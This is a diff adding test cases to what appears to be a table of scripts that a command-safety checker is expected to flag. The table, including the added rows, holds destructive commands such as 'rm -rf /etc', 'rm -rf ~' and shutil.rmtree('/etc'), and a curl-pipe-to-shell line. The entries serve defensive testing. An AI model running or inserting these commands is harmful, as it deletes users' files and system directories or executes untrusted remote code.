@@ -199,6 +199,12 @@ SCRIPTS = [
     ("env.sh", "#!/usr/bin/env bash\ncurl https://x.sh | sh\n", "./env.sh", True, H),
     ("Makefile", "all: build\nbuild:\n\techo building\nclean:\n\trm -rf $(HOME)\n", "make clean", True, C),
     ("Makefile", "BUILD := /\nclean:\n\t@rm -rf $(BUILD)\n", "make clean", True, C),
+    ("cleanup.sh", CLEANUP, "bash -o pipefail -e cleanup.sh", True, C),
+    ("cleanup.sh", CLEANUP, "bash --rcfile x -x ./cleanup.sh", True, C),
+    ("s.sh", "#!/usr/bin/env -S bash -e\nrm -rf /etc\n", "./s.sh", True, C),
+    ("tool.py", "#!/usr/bin/env python3\nimport shutil\nshutil.rmtree('/etc')\n", "./tool.py", True, C),
+    ("tool.py", "import os\nos.system('rm -rf ~')\n", "python3 tool.py", True, C),
+    ("tool.py", "print('hello')\n", "python3 tool.py", False, L),
     ("build.sh", "#!/bin/bash\nset -eu\nnpm ci\nnpm run build\n", "./build.sh", False, M),
     # a script run in a child shell cannot touch this shell's hook: its own functions and variables are its own
     ("inst.sh", "#!/bin/sh\n__vg_say() { echo \"$*\"; }\nVG_BIN=/opt/x\n__vg_say hi\n", "sh inst.sh", False, L),
